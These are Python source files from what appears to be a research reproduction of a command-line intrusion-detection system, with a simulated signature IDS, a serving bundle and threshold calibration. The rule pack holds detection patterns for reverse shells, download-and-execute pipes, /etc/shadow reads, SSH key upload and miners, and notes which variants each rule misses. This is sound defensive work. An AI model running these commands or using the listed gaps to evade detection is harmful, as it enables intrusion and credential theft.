    def normalize(self, line: str) -> str:
        """Return the canonical form of *line*."""
        text = _CONTROL_CHARS_RE.sub(" ", line)
        if self.collapse_whitespace:
            text = _WHITESPACE_RE.sub(" ", text)
        text = text.strip()
        if len(text) > self.max_length:
            text = text[: self.max_length]
        return text

    def __call__(self, line: str) -> str:
        return self.normalize(line)


def normalize_command_line(line: str) -> str:
    """Normalize *line* with default :class:`Normalizer` settings."""
    return Normalizer().normalize(line)
