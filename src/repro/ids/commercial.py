"""The simulated commercial IDS — the paper's noisy supervision source.

The paper queries a commercial IDS "in a black-box manner ... just for
labeling a number of command lines" and stresses that such supervision
is *noisy*: real deployments drop alerts (sampling, rate limits, agent
gaps), so some genuinely matching lines come back labeled benign.
:class:`CommercialIDS` reproduces both aspects: signature matching via a
rule pack, plus a configurable label-dropout rate.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass

import numpy as np

from repro.ids.rulepacks import default_rule_pack
from repro.ids.rules import RuleMatch, RuleSet


@dataclass(frozen=True)
class Alert:
    """One alert emitted by the commercial IDS."""

    index: int
    line: str
    rule_name: str
    family: str


class CommercialIDS:
    """Black-box signature IDS with noisy labeling.

    Parameters
    ----------
    rules:
        Signature pack (defaults to :func:`default_rule_pack`).
    label_noise:
        Probability that a matching line is *not* reported (false
        negative noise in the supervision, Section IV).  The paper
        assumes the IDS's precision is ~100%, so no false-positive
        noise is injected.
    seed:
        Seed for the noise draw (labels are deterministic per instance).
    """

    def __init__(self, rules: RuleSet | None = None, label_noise: float = 0.02, seed: int = 0):
        if not 0.0 <= label_noise < 1.0:
            raise ValueError("label_noise must be in [0, 1)")
        self.rules = rules if rules is not None else default_rule_pack()
        self.label_noise = label_noise
        self._rng = np.random.default_rng(seed)

    def detect(self, lines: Sequence[str]) -> np.ndarray:
        """Noise-free signature decisions (1 = alert) — the IDS's *capability*."""
        return self.rules.predict(lines)

    def label(self, lines: Sequence[str]) -> np.ndarray:
        """Noisy supervision labels: detections with random dropout applied."""
        detections = self.detect(lines).astype(np.int64)
        if self.label_noise > 0.0:
            dropped = self._rng.random(len(detections)) < self.label_noise
            detections[dropped & (detections == 1)] = 0
        return detections

    def alerts(self, lines: Sequence[str]) -> list[Alert]:
        """Detailed alert objects (first matching rule per line)."""
        result: list[Alert] = []
        for index, line in enumerate(lines):
            matches: list[RuleMatch] = self.rules.match(line)
            if matches:
                first = matches[0]
                result.append(
                    Alert(index=index, line=line, rule_name=first.rule.name, family=first.rule.family)
                )
        return result

    def coverage_report(self, lines: Sequence[str], truth: np.ndarray) -> dict[str, float]:
        """Detection precision/recall against ground truth *truth*.

        Used by experiments to verify the simulated IDS behaves like the
        paper's: ~perfect precision, imperfect recall.
        """
        predictions = self.detect(lines)
        truth = np.asarray(truth)
        true_positive = int(((predictions == 1) & (truth == 1)).sum())
        false_positive = int(((predictions == 1) & (truth == 0)).sum())
        false_negative = int(((predictions == 0) & (truth == 1)).sum())
        precision = true_positive / max(true_positive + false_positive, 1)
        recall = true_positive / max(true_positive + false_negative, 1)
        return {
            "precision": precision,
            "recall": recall,
            "alerts": int(predictions.sum()),
            "true_positives": true_positive,
            "false_positives": false_positive,
            "false_negatives": false_negative,
        }
