"""The deployable end-to-end IDS of Figure 1.

:class:`IntrusionDetectionService` packages everything inference needs —
normalizer, parser filter, tokenizer, language model, tuned
classification head, calibrated threshold — behind a single
``inspect()`` API, with save/load so a trained system can be shipped.

This is the "inference path" of Figure 1: logging → pre-processing →
tokenization → inference → intrusion yes/no.
"""

from __future__ import annotations

import hashlib
import json
import warnings
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from repro.errors import CheckpointError, NotFittedError
from repro.lm.checkpoint import load_pretrained, save_pretrained
from repro.lm.encoder_api import CommandEncoder
from repro.nn.serialization import save_module
from repro.preprocess.normalizer import Normalizer
from repro.shell.validate import CommandLineValidator
from repro.tuning.classification import ClassificationTuner

_META_FILE = "service.json"
_HEAD_FILE = "head.npz"
_MULTILINE_DIR = "multiline"
_MULTILINE_META = "multiline.json"


@dataclass(frozen=True)
class Verdict:
    """The service's decision for one command line.

    Attributes
    ----------
    line:
        The normalized command line that was scored (empty when the
        line was dropped by pre-processing).
    score:
        Intrusion probability from the tuned head (0 when dropped).
    is_intrusion:
        Final yes/no decision at the calibrated threshold.
    dropped:
        True when pre-processing discarded the line (un-parseable noise
        cannot be executed and is not scored — Section II-A).
    index:
        Position of the line in the batch handed to :meth:`inspect`
        (``-1`` when the verdict was produced outside a batch); used as
        the deterministic tie-break when ranking alerts.
    """

    line: str
    score: float
    is_intrusion: bool
    dropped: bool = False
    index: int = -1


class IntrusionDetectionService:
    """Inference-path bundle: preprocess → embed → classify → threshold.

    Build one with :meth:`from_tuner` after training, or restore a
    shipped bundle with :meth:`load`.

    Example
    -------
    >>> service = IntrusionDetectionService.from_tuner(tuner, 0.5)  # doctest: +SKIP
    >>> service.inspect(["nc -ulp 31337"])[0].is_intrusion          # doctest: +SKIP
    True
    """

    def __init__(
        self,
        encoder: CommandEncoder,
        tuner: ClassificationTuner,
        threshold: float,
        normalizer: Normalizer | None = None,
    ):
        if tuner.head is None:
            raise NotFittedError("classification tuner must be fitted before serving")
        self.encoder = encoder
        self.tuner = tuner
        self.threshold = float(threshold)
        self.normalizer = normalizer or Normalizer()
        self._validator = CommandLineValidator()
        #: Bundle directory this service was restored from (set by
        #: :meth:`load`); ``None`` for freshly-trained services.
        self.source_dir: Path | None = None
        #: The :class:`~repro.serving.config.ServingConfig` recorded in
        #: the bundle metadata (how this service was last deployed);
        #: ``None`` when the bundle carries no serving config.
        self.serving_config = None
        #: Optional second-stage head scoring *composed* multi-line
        #: inputs (Section IV-C) — attach with :meth:`attach_multiline`;
        #: ships in the bundle's ``multiline/`` directory.
        self.multiline_tuner: ClassificationTuner | None = None
        #: Composer semantics the multi-line head was trained with
        #: (``{"window": ..., "max_gap_seconds": ...}``), when recorded.
        self.multiline_composer_meta: dict | None = None
        # lazily-built columnar tokenizer backing encode_batch()
        self._columnar = None

    # -- construction ------------------------------------------------------

    @classmethod
    def from_tuner(cls, tuner: ClassificationTuner, threshold: float) -> "IntrusionDetectionService":
        """Wrap a fitted tuner (reuses its encoder)."""
        return cls(encoder=tuner.encoder, tuner=tuner, threshold=threshold)

    def attach_multiline(self, tuner: ClassificationTuner) -> "IntrusionDetectionService":
        """Attach a fitted multi-line head as the second-stage sequence scorer.

        *tuner* scores **composed** inputs — recent same-host command
        lines joined with the ``;`` separator (see
        :mod:`repro.tuning.multiline`).  It shares this service's frozen
        LM; only the probing head differs.  Once attached, the head
        travels with the bundle (:meth:`save` writes a ``multiline/``
        directory) and the streaming server's ``sequence`` / ``hybrid``
        escalation modes can use it.
        """
        if tuner.head is None:
            raise NotFittedError("multi-line tuner must be fitted before attaching")
        self.multiline_tuner = tuner
        composer = getattr(tuner, "composer", None)
        if composer is not None:
            self.multiline_composer_meta = {
                "window": composer.window,
                "max_gap_seconds": composer.max_gap.total_seconds(),
            }
        return self

    @property
    def has_sequence_head(self) -> bool:
        """Whether a second-stage multi-line head is attached."""
        return self.multiline_tuner is not None

    def fingerprint(self) -> str:
        """Short stable hash of the deployed weights and threshold.

        Two services answer identically on every input iff their
        fingerprints match (head weights, LM weights, and threshold all
        participate), which is how the serving layer verifies that a
        hot-swapped worker really rotated to the new bundle.
        """
        digest = hashlib.sha256()
        digest.update(f"threshold={self.threshold!r}".encode())
        assert self.tuner.head is not None
        modules = [self.tuner.head, self.encoder.model]
        if self.multiline_tuner is not None:
            assert self.multiline_tuner.head is not None
            modules.append(self.multiline_tuner.head)
        for module in modules:
            for parameter in module.parameters():
                digest.update(parameter.data.tobytes())
        return digest.hexdigest()[:16]

    def compile_inference(self, precision: str = "float64") -> bool:
        """Compile the encoder's LM into a graph-free serving plan.

        Routes :meth:`score_normalized`/:meth:`score_batch` (and, when a
        multi-line head shares the LM, :meth:`score_sequence`) through a
        :class:`~repro.nn.inference.InferencePlan`.  ``float64`` scores
        are bitwise-identical to the Tensor path; ``float32`` trades
        ~1e-6 score drift for roughly half the memory traffic.

        Returns ``True`` on success.  A model outside the compiler's
        surface warns and returns ``False`` — the service keeps serving
        through the Tensor path (auto-fallback, never a hard failure).
        """
        from repro.nn.inference import InferenceCompileError

        encoders = [self.encoder]
        if self.multiline_tuner is not None and self.multiline_tuner.encoder is not self.encoder:
            encoders.append(self.multiline_tuner.encoder)
        try:
            for encoder in encoders:
                encoder.compile_inference(precision)
        except InferenceCompileError as exc:
            for encoder in encoders:
                encoder.reset_inference()
            warnings.warn(
                f"compiled inference unavailable for this model ({exc}); "
                "serving through the Tensor path",
                RuntimeWarning,
                stacklevel=2,
            )
            return False
        return True

    def reset_inference(self) -> None:
        """Drop any compiled plans; subsequent scoring uses the tape."""
        self.encoder.reset_inference()
        if self.multiline_tuner is not None:
            self.multiline_tuner.encoder.reset_inference()

    @property
    def inference_compiled(self) -> bool:
        """Whether scoring currently runs through a compiled plan."""
        return self.encoder.inference_plan is not None

    @property
    def inference_precision(self) -> str | None:
        """Precision of the active compiled plan (``None`` when not compiled)."""
        plan = self.encoder.inference_plan
        return plan.precision if plan is not None else None

    # -- inference -----------------------------------------------------------

    def preprocess(self, raw: str) -> str | None:
        """Normalize and validate one raw log line.

        Returns the normalized command line, or ``None`` when the line
        is dropped (empty after normalization or un-parseable —
        Section II-A).  This is the per-event entry point the streaming
        server (:mod:`repro.serving`) calls before consulting its cache.
        """
        line = self.normalizer(raw)
        if not line or not self._validator.is_valid(line):
            return None
        return line

    def score_normalized(self, lines: Sequence[str]) -> np.ndarray:
        """Score lines that already passed :meth:`preprocess`.

        Fast path for callers that do their own per-event preprocessing
        (the micro-batching server): skips normalization/validation and
        runs tokenize → embed → head directly at the encoder's batch
        width.
        """
        if not lines:
            return np.zeros(0)
        return self.tuner.score(list(lines))

    def encode_batch(self, lines: Sequence[str]):
        """Tokenize already-normalized *lines* into one columnar batch.

        The batch-first seam between :meth:`preprocess` and
        :meth:`score_batch`: one pass over the micro-batch produces the
        padded ``(N, W)`` id matrix + lengths a
        :class:`~repro.tokenizer.columnar.TokenBatch` carries, ready for
        zero-copy transport to scoring workers.
        """
        from repro.tokenizer.columnar import ColumnarTokenizer

        if self._columnar is None:
            self._columnar = ColumnarTokenizer(
                self.encoder.tokenizer, max_length=self.encoder.model.config.max_position
            )
        return self._columnar.encode(list(lines))

    def score_batch(self, token_ids, lengths=None) -> np.ndarray:
        """Columnar twin of :meth:`score_normalized`: score a pre-tokenized batch.

        Accepts either a :class:`~repro.tokenizer.columnar.TokenBatch`
        (the :meth:`encode_batch` output) or raw ``(token_ids, lengths)``
        arrays.  The embed → classify pipeline runs entirely on the
        columnar arrays — no per-line Python loop — and, for a batch
        built by :meth:`encode_batch`, returns **bitwise-identical**
        scores to ``score_normalized`` on the same lines (the encoder
        replicates its per-line chunk composition; see
        :meth:`CommandEncoder.embed_batch`).
        """
        from repro.tokenizer.columnar import TokenBatch

        if isinstance(token_ids, TokenBatch):
            if lengths is not None:
                raise ValueError("lengths must be omitted when passing a TokenBatch")
            batch = token_ids
        else:
            if lengths is None:
                raise ValueError("raw token_ids need an explicit lengths array")
            pad_id = self.encoder.tokenizer.vocab.pad_id if self.encoder.tokenizer.vocab else 0
            batch = TokenBatch.from_arrays(token_ids, lengths, pad_id=pad_id)
        if len(batch) == 0:
            return np.zeros(0)
        embeddings = self.encoder.embed_batch(batch, pooling=self.tuner.pooling)
        return self.tuner.score_embeddings(embeddings)

    def score_sequence(self, texts: Sequence[str]) -> np.ndarray:
        """Second-stage scores for *composed* multi-line inputs.

        Each text is a host's recent command window joined with the
        ``;`` separator (the streaming server composes them via
        :meth:`SessionAggregator.compose_context`); the attached
        multi-line head returns the probability the *sequence* is an
        intrusion.  Raises :class:`~repro.errors.NotFittedError` when no
        multi-line head is attached — check :attr:`has_sequence_head`.
        """
        if self.multiline_tuner is None:
            raise NotFittedError(
                "no multi-line head attached; attach_multiline() one or load a "
                "bundle saved with a multiline/ directory"
            )
        if not texts:
            return np.zeros(0)
        return self.multiline_tuner.score(list(texts))

    def inspect(self, lines: Sequence[str]) -> list[Verdict]:
        """Run the full inference path over raw log lines."""
        normalized: list[str] = []
        keep: list[int] = []
        verdicts: list[Verdict | None] = [None] * len(lines)
        for index, raw in enumerate(lines):
            line = self.preprocess(raw)
            if line is None:
                verdicts[index] = Verdict(
                    line="", score=0.0, is_intrusion=False, dropped=True, index=index
                )
                continue
            keep.append(index)
            normalized.append(line)
        if normalized:
            scores = self.score_normalized(normalized)
            for position, index in enumerate(keep):
                score = float(scores[position])
                verdicts[index] = Verdict(
                    line=normalized[position],
                    score=score,
                    is_intrusion=score >= self.threshold,
                    dropped=False,
                    index=index,
                )
        return [v for v in verdicts if v is not None]

    def inspect_one(self, line: str) -> Verdict:
        """Convenience wrapper for a single command line."""
        return self.inspect([line])[0]

    def alerts(self, lines: Sequence[str]) -> list[Verdict]:
        """Only the intrusion verdicts, highest score first.

        Equal scores break ties on input position so the ordering is
        fully deterministic across runs.
        """
        flagged = [v for v in self.inspect(lines) if v.is_intrusion]
        return sorted(flagged, key=lambda v: (-v.score, v.index))

    # -- persistence ------------------------------------------------------------

    def save(self, directory: str | Path, *, serving_config=None) -> None:
        """Write the full service bundle (LM + tokenizer + head + meta).

        *serving_config* (a :class:`~repro.serving.config.ServingConfig`;
        default: the one already attached to this service, if any) is
        recorded in the bundle metadata so the deployment that serves
        this model travels with it — ``DetectionServer.from_config``
        picks it up when no explicit config is given.

        When a multi-line head is attached (:meth:`attach_multiline`),
        it is written under ``multiline/`` so one bundle ships both
        stages — the per-line classifier and the sequence scorer.
        """
        directory = Path(directory)
        directory.mkdir(parents=True, exist_ok=True)
        save_pretrained(directory, self.encoder.model, self.encoder.tokenizer)
        assert self.tuner.head is not None
        save_module(self.tuner.head, directory / _HEAD_FILE)
        if serving_config is None:
            serving_config = self.serving_config
        meta = {
            "threshold": self.threshold,
            "pooling": self.tuner.pooling,
            "head_hidden": self.tuner.hidden_size,
            "encoder_pooling": self.encoder.pooling,
        }
        if serving_config is not None:
            meta["serving_config"] = serving_config.to_dict()
        (directory / _META_FILE).write_text(json.dumps(meta, indent=2))
        if self.multiline_tuner is not None:
            assert self.multiline_tuner.head is not None
            multiline_dir = directory / _MULTILINE_DIR
            multiline_dir.mkdir(exist_ok=True)
            save_module(self.multiline_tuner.head, multiline_dir / _HEAD_FILE)
            multiline_meta = {
                "pooling": self.multiline_tuner.pooling,
                "head_hidden": self.multiline_tuner.hidden_size,
            }
            if self.multiline_composer_meta is not None:
                multiline_meta["composer"] = self.multiline_composer_meta
            (multiline_dir / _MULTILINE_META).write_text(
                json.dumps(multiline_meta, indent=2)
            )

    def record_serving_config(self, serving_config) -> bool:
        """Attach *serving_config* to this service and persist it into the
        source bundle's metadata (best-effort).

        Returns ``True`` when the bundle's ``service.json`` was updated;
        ``False`` when the service has no bundle on disk (fresh, never
        saved) or the metadata could not be rewritten.  Either way the
        config is attached in memory, so a later :meth:`save` records it.
        """
        self.serving_config = serving_config
        if self.source_dir is None:
            return False
        meta_path = self.source_dir / _META_FILE
        try:
            meta = json.loads(meta_path.read_text())
        except (OSError, json.JSONDecodeError):
            return False
        meta["serving_config"] = serving_config.to_dict()
        try:
            meta_path.write_text(json.dumps(meta, indent=2))
        except OSError:
            return False
        return True

    @classmethod
    def load(cls, directory: str | Path) -> "IntrusionDetectionService":
        """Restore a bundle written by :meth:`save`."""
        directory = Path(directory)
        meta_path = directory / _META_FILE
        if not meta_path.exists():
            raise CheckpointError(f"missing {_META_FILE} in {directory}")
        try:
            meta = json.loads(meta_path.read_text())
        except json.JSONDecodeError as exc:
            raise CheckpointError(f"corrupt {_META_FILE}: {exc}") from exc
        model, tokenizer = load_pretrained(directory)
        encoder = CommandEncoder(model, tokenizer, pooling=meta["encoder_pooling"])
        tuner = ClassificationTuner(
            encoder, hidden_size=meta["head_hidden"], pooling=meta["pooling"]
        )
        tuner.restore_head(directory / _HEAD_FILE)
        service = cls(encoder=encoder, tuner=tuner, threshold=meta["threshold"])
        service.source_dir = directory
        multiline_dir = directory / _MULTILINE_DIR
        if (multiline_dir / _HEAD_FILE).exists():
            meta_path_ml = multiline_dir / _MULTILINE_META
            try:
                multiline_meta = json.loads(meta_path_ml.read_text())
            except (OSError, json.JSONDecodeError) as exc:
                raise CheckpointError(f"corrupt {_MULTILINE_META}: {exc}") from exc
            multiline_tuner = ClassificationTuner(
                encoder,
                hidden_size=multiline_meta["head_hidden"],
                pooling=multiline_meta["pooling"],
            )
            multiline_tuner.restore_head(multiline_dir / _HEAD_FILE)
            service.multiline_tuner = multiline_tuner
            service.multiline_composer_meta = multiline_meta.get("composer")
        if meta.get("serving_config") is not None:
            # deferred import: repro.serving depends on this module
            from repro.errors import ConfigError
            from repro.serving.config import ServingConfig

            try:
                service.serving_config = ServingConfig.from_dict(
                    meta["serving_config"], path=f"{meta_path}:serving_config"
                )
            except ConfigError as exc:
                # deployment metadata must never make the model bundle
                # unloadable (e.g. a custom sink scheme this process
                # hasn't registered) — degrade to "no recorded config"
                warnings.warn(
                    f"ignoring invalid serving_config recorded in {directory}: {exc}",
                    stacklevel=2,
                )
        return service
