"""The default signature pack of the simulated commercial IDS.

Every rule is written against the *in-box* templates of
:mod:`repro.loggen.attacks`; the *out-of-box* variants of the same
families are deliberately outside the signatures — that asymmetry is the
in-box / out-of-box structure the paper's evaluation is built on
(flag variants, interpreter swaps, wrapper scripts, argument changes;
see Table III).
"""

from __future__ import annotations

from repro.ids.rules import Rule, RuleSet


def default_rule_pack() -> RuleSet:
    """The stock rule set wired to the attack library's in-box variants."""
    rules = [
        # --- reverse shells --------------------------------------------------
        Rule(
            "revshell.nc_listen",
            r"\bnc\s+-l\S*\s+\d+",
            "reverse_shell",
            "netcat TCP listener (-l...); misses the UDP -ulp variant",
        ),
        Rule(
            "revshell.nc_exec",
            r"\bnc\s+-e\s+/bin/sh",
            "reverse_shell",
            "netcat -e classic bind shell",
        ),
        Rule(
            "revshell.dev_tcp",
            r"bash\s+-i\s*>&\s*/dev/tcp/",
            "reverse_shell",
            "bash -i over /dev/tcp; misses sh -i and /dev/udp variants",
        ),
        Rule(
            "revshell.mkfifo_nc",
            r"\bmkfifo\b.*\|\s*nc\b",
            "reverse_shell",
            "mkfifo-backed netcat pipe shell",
        ),
        # --- port scans --------------------------------------------------------
        Rule(
            "scan.masscan_fullrange",
            r"(^|[;|&]\s*)masscan\s+\S+.*-p\s*0-65535",
            "port_scan",
            "masscan binary in command position with full port range; "
            "misses wrapper scripts like `sh /root/masscan.sh`",
        ),
        Rule(
            "scan.nmap_allports",
            r"(^|[;|&]\s*)nmap\b.*-p-",
            "port_scan",
            "nmap all-ports SYN scan",
        ),
        # --- base64-camouflaged execution ------------------------------------------
        Rule(
            "b64.java_braces",
            r"java\s.*\{base64,-d\}",
            "base64_exec",
            "java-launched brace-expansion base64 pipeline; misses python3 (Table III)",
        ),
        Rule(
            "b64.echo_pipe_bash",
            r"echo\s+\S+\s*\|\s*base64\s+-d\s*\|\s*bash",
            "base64_exec",
            "echo | base64 -d | bash; misses printf/openssl variants and | sh",
        ),
        # --- proxies / tunnels -------------------------------------------------
        Rule(
            "proxy.http_export",
            r"export\s+https?_proxy=.?http:",
            "proxy_tunnel",
            "plain-HTTP proxy export; misses socks5 (Table III)",
        ),
        # --- download & execute -----------------------------------------------
        Rule(
            "dropper.pipe_to_bash",
            r"(curl|wget)\s[^|]*http[^|]*\|\s*bash",
            "download_exec",
            "fetch piped straight into bash; misses fetch-chmod-run chains",
        ),
        Rule(
            "dropper.wget_rename_python",
            r"wget\s+-c\s+\S*http\S*\s+-o\s+python\b",
            "download_exec",
            "the wget→rename-to-python trick (Section IV-C)",
        ),
        # --- credential theft -------------------------------------------------
        Rule(
            "creds.cat_shadow",
            r"\bcat\s+/etc/shadow\b",
            "credential_theft",
            "direct shadow read; misses tail/dd/cp indirection",
        ),
        Rule(
            "creds.ssh_key_exfil",
            r"\.ssh\b.*curl\s+-F",
            "credential_theft",
            "ssh key archive upload via curl -F",
        ),
        # --- miners -------------------------------------------------------------
        Rule(
            "miner.xmrig",
            r"\bxmrig\b",
            "crypto_miner",
            "xmrig by name; misses renamed binaries (.kworker, .systemd-helper)",
        ),
        # --- persistence -----------------------------------------------------------
        Rule(
            "persist.cron_revshell",
            r"crontab\b.*(/dev/tcp/|\|\s*bash)",
            "persistence",
            "cron-installed reverse shell or fetch-pipe; misses .bashrc/rc.local",
        ),
    ]
    return RuleSet(rules)
