"""The simulated commercial IDS and decision plumbing.

Public surface:

- :class:`CommercialIDS` / :class:`Alert` — the noisy supervision source.
- :class:`Rule` / :class:`RuleSet` / :func:`default_rule_pack` — signatures.
- :func:`calibrate_threshold` / :func:`achieved_inbox_recall` — the
  recall-u thresholding protocol of Section V-A.
"""

from repro.ids.commercial import Alert, CommercialIDS
from repro.ids.pipeline import IntrusionDetectionService, Verdict
from repro.ids.rulepacks import default_rule_pack
from repro.ids.rules import Rule, RuleMatch, RuleSet
from repro.ids.threshold import achieved_inbox_recall, calibrate_threshold

__all__ = [
    "Alert",
    "CommercialIDS",
    "IntrusionDetectionService",
    "Rule",
    "RuleMatch",
    "RuleSet",
    "Verdict",
    "achieved_inbox_recall",
    "calibrate_threshold",
    "default_rule_pack",
]
