"""Signature rule engine for the simulated commercial IDS.

Rules are regular expressions over raw command lines — "alerts triggered
by off-the-shelf hand-crafted rules proposed by professionals"
(Section IV).  The engine is deliberately a black box to the rest of the
system: it consumes lines and emits binary alerts.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass, field

import numpy as np


@dataclass(frozen=True)
class Rule:
    """One detection signature.

    Attributes
    ----------
    name:
        Stable identifier (``revshell.nc_listen``-style).
    pattern:
        Regular expression matched with :func:`re.search`.
    family:
        Attack family the rule targets (diagnostic).
    description:
        What the signature is meant to catch.
    """

    name: str
    pattern: str
    family: str
    description: str = ""
    _compiled: re.Pattern = field(init=False, repr=False, compare=False, default=None)  # type: ignore[assignment]

    def __post_init__(self):
        object.__setattr__(self, "_compiled", re.compile(self.pattern))

    def matches(self, line: str) -> bool:
        """Whether *line* triggers this rule."""
        return self._compiled.search(line) is not None


@dataclass(frozen=True)
class RuleMatch:
    """A rule firing on a specific line."""

    rule: Rule
    line: str


class RuleSet:
    """An ordered collection of :class:`Rule` objects.

    Example
    -------
    >>> rules = RuleSet([Rule("r1", r"cat /etc/shadow", "credential_theft")])
    >>> rules.match("cat /etc/shadow")[0].rule.name
    'r1'
    """

    def __init__(self, rules: Iterable[Rule] = ()):
        self._rules: list[Rule] = list(rules)
        names = [rule.name for rule in self._rules]
        if len(names) != len(set(names)):
            raise ValueError("duplicate rule names in rule set")

    def __len__(self) -> int:
        return len(self._rules)

    def __iter__(self):
        return iter(self._rules)

    def add(self, rule: Rule) -> None:
        """Append *rule*; names must stay unique."""
        if any(existing.name == rule.name for existing in self._rules):
            raise ValueError(f"duplicate rule name {rule.name!r}")
        self._rules.append(rule)

    def match(self, line: str) -> list[RuleMatch]:
        """All rules firing on *line*."""
        return [RuleMatch(rule, line) for rule in self._rules if rule.matches(line)]

    def any_match(self, line: str) -> bool:
        """Whether any rule fires on *line* (short-circuits)."""
        return any(rule.matches(line) for rule in self._rules)

    def predict(self, lines: Sequence[str]) -> np.ndarray:
        """Binary alert vector over *lines* (1 = alert)."""
        return np.array([int(self.any_match(line)) for line in lines])

    def families(self) -> set[str]:
        """Attack families covered by at least one rule."""
        return {rule.family for rule in self._rules}
