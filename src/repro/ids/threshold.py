"""Threshold calibration for the paper's PO / PO&I evaluation protocol.

Section V-A: "we also evaluate the precision when each method is able to
recall u (for u ≈ 100%) of all intrusions detected by the commercial
IDS.  This is achieved by setting a specific intrusion detection
threshold for each method according to its prediction scores."
"""

from __future__ import annotations

import numpy as np


def calibrate_threshold(
    scores: np.ndarray,
    inbox_mask: np.ndarray,
    recall_target: float = 1.0,
) -> float:
    """Pick the decision threshold that recalls ``recall_target`` of the
    in-box intrusions.

    Parameters
    ----------
    scores:
        Prediction scores (larger = more suspicious).
    inbox_mask:
        Boolean mask of samples the commercial IDS flags (in-box).
    recall_target:
        Fraction ``u`` of in-box intrusions that must score at or above
        the returned threshold.

    Returns
    -------
    float
        The threshold; classify ``score >= threshold`` as intrusion.

    Raises
    ------
    ValueError
        If there are no in-box samples or the target is out of range.
    """
    scores = np.asarray(scores, dtype=np.float64)
    inbox_mask = np.asarray(inbox_mask, dtype=bool)
    if scores.shape != inbox_mask.shape:
        raise ValueError("scores and inbox_mask must have identical shapes")
    if not 0.0 < recall_target <= 1.0:
        raise ValueError("recall_target must be in (0, 1]")
    inbox_scores = np.sort(scores[inbox_mask])
    if inbox_scores.size == 0:
        raise ValueError("cannot calibrate: no in-box intrusions in the calibration data")
    # To recall a fraction u we may let the lowest (1-u) of in-box scores
    # fall below the threshold.
    n_missable = int(np.floor((1.0 - recall_target) * inbox_scores.size))
    return float(inbox_scores[n_missable])


def achieved_inbox_recall(scores: np.ndarray, inbox_mask: np.ndarray, threshold: float) -> float:
    """Fraction of in-box intrusions scoring at or above *threshold*."""
    scores = np.asarray(scores, dtype=np.float64)
    inbox_mask = np.asarray(inbox_mask, dtype=bool)
    total = int(inbox_mask.sum())
    if total == 0:
        return 0.0
    return float((scores[inbox_mask] >= threshold).sum() / total)
