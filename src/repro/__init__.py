"""repro — reproduction of "Intrusion Detection at Scale with the
Assistance of a Command-line Language Model" (DSN 2024).

The package builds the paper's full system from scratch on numpy:

- :mod:`repro.shell` — a bash command-line parser (the ``bashlex`` role);
- :mod:`repro.preprocess` — the Figure-2 pre-processing pipeline;
- :mod:`repro.loggen` — a synthetic cloud-fleet telemetry generator
  (substitute for the proprietary 30M/10M-line corpus);
- :mod:`repro.tokenizer` — trainable BPE;
- :mod:`repro.nn` — a numpy autograd + transformer substrate;
- :mod:`repro.lm` — the MLM command-line language model;
- :mod:`repro.anomaly` — PCA / isolation-forest / OC-SVM detectors;
- :mod:`repro.ids` — the simulated commercial IDS (noisy supervision);
- :mod:`repro.tuning` — the paper's four adaptation methods;
- :mod:`repro.evaluation` — PO/PO&I/PO@v metrics and the F1 comparison;
- :mod:`repro.experiments` — one driver per table/figure;
- :mod:`repro.serving` — the streaming detection server (micro-batching,
  score cache, alert sinks, per-host escalation).

Quickstart
----------
>>> from repro import build_world, run_classification, evaluate_method  # doctest: +SKIP
>>> world = build_world()                                               # doctest: +SKIP
>>> scores = run_classification(world)                                  # doctest: +SKIP
>>> evaluate_method("clf", scores, world.truth, world.inbox_mask)       # doctest: +SKIP
"""

from repro.errors import (
    CheckpointError,
    ConfigError,
    DataError,
    NotFittedError,
    ReproError,
    ShellSyntaxError,
    TokenizerError,
)
from repro.evaluation import evaluate_method
from repro.experiments.common import World, WorldConfig, build_world
from repro.experiments.methods import (
    run_classification,
    run_multiline,
    run_reconstruction,
    run_retrieval,
)
from repro.ids import CommercialIDS
from repro.lm import CommandEncoder, CommandLineLM, LMConfig, MLMCollator, Pretrainer
from repro.loggen import CommandDataset, FleetConfig, FleetSimulator, generate_paper_split
from repro.preprocess import PreprocessingPipeline
from repro.shell import parse as parse_command_line
from repro.tokenizer import BPETokenizer
from repro.tuning import (
    ClassificationTuner,
    MultiLineClassificationTuner,
    ReconstructionTuner,
    RetrievalDetector,
)
from repro.version import __version__

__all__ = [
    "BPETokenizer",
    "CheckpointError",
    "ClassificationTuner",
    "CommandDataset",
    "CommandEncoder",
    "CommandLineLM",
    "CommercialIDS",
    "ConfigError",
    "DataError",
    "FleetConfig",
    "FleetSimulator",
    "LMConfig",
    "MLMCollator",
    "MultiLineClassificationTuner",
    "NotFittedError",
    "PreprocessingPipeline",
    "Pretrainer",
    "ReconstructionTuner",
    "ReproError",
    "RetrievalDetector",
    "ShellSyntaxError",
    "TokenizerError",
    "World",
    "WorldConfig",
    "__version__",
    "build_world",
    "evaluate_method",
    "generate_paper_split",
    "parse_command_line",
    "run_classification",
    "run_multiline",
    "run_reconstruction",
    "run_retrieval",
]
