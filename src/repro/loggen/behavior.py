"""Session-level user behaviour models.

A *session* is a short burst of temporally contiguous commands from one
user on one machine — the unit the paper's multi-line classification
consumes.  Benign sessions interleave coherent role tasks (build, deploy,
triage) with singleton commands; the mix, and the Zipfian weighting of
singletons, shape the corpus statistics the language model learns.
"""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.loggen.benign import ROLE_MODELS, RoleModel, TemplateFiller


@dataclass(frozen=True)
class SessionPlan:
    """The lines of one generated session plus its scenario label."""

    scenario: str
    lines: tuple[str, ...]


class BenignSessionGenerator:
    """Generate benign sessions for a user role.

    Parameters
    ----------
    rng:
        Randomness source.
    abnormal_benign_prob:
        Probability that a session contains one "abnormal yet benign"
        heavy-tail line (huge ``mv``, weird ``echo`` — Section III).
    """

    def __init__(self, rng: np.random.Generator, abnormal_benign_prob: float = 0.01):
        self._rng = rng
        self._filler = TemplateFiller(rng)
        self.abnormal_benign_prob = abnormal_benign_prob
        self._singleton_cache: dict[str, tuple[list[str], np.ndarray]] = {}

    def _singletons(self, model: RoleModel) -> tuple[list[str], np.ndarray]:
        cached = self._singleton_cache.get(model.role)
        if cached is None:
            templates = [template for template, _ in model.singletons]
            weights = np.array([weight for _, weight in model.singletons])
            cached = (templates, weights / weights.sum())
            self._singleton_cache[model.role] = cached
        return cached

    def generate(self, role: str, user: str) -> SessionPlan:
        """One benign session for *user* with the given *role*."""
        model = ROLE_MODELS.get(role)
        if model is None:
            raise KeyError(f"unknown role {role!r}; available: {sorted(ROLE_MODELS)}")
        lines: list[str] = []
